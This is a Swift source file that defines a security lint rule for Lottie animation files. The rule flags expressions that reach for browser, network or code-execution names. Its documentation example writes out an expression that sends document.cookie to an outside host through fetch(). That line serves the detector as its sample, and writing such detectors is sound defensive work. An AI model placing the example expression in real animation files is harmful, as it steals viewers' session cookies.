public import PegbarDiagnostics
internal import PegbarLottie

extension Rule {
  /// An expression uses what no animation needs.
  package static let expressionSuspicious = Rule(
    .rule(
      "sec/expression-suspicious", .error,
      RulePage(
        title: "An expression does more than animate",
        meaning: """
          The expression uses a name that browsers have and After Effects lacks: for the page, \
          for the network, or to run text as code. A backslash outside of text hides such names.
          """,
        effect: "It may read what the page shows and send it elsewhere.",
        wayOut: "Do not play the file. Ask its author what the expression is for, or delete it.")),
    example: .layer(
      #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
    check: .several([
      .property { property, run in
        guard let expression = property.expression else { return }
        run.reportSuspicious(expression, at: property.source)
      },
      .text { text, run in
        for selector in text.animators.lazy.flatMap(\.selectors) {
          guard let expression = selector.expression else { continue }
          run.reportSuspicious(expression, at: selector.source)
        }
      },
    ]))
}

extension RuleRun {
  fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
    var words = ScriptWords(expression)
    guard let word = words.firstSuspicious() else { return }
    let thing = word == "\\" ? "a backslash outside of text" : "'\(word)'"
    report("the expression uses \(thing), which no animation needs", at: source)
  }
}

extension FindingKind {
  /// An expression does more than animate (`sec/expression-suspicious`).
  public static let expressionSuspicious = Rule.expressionSuspicious.pageKind
}
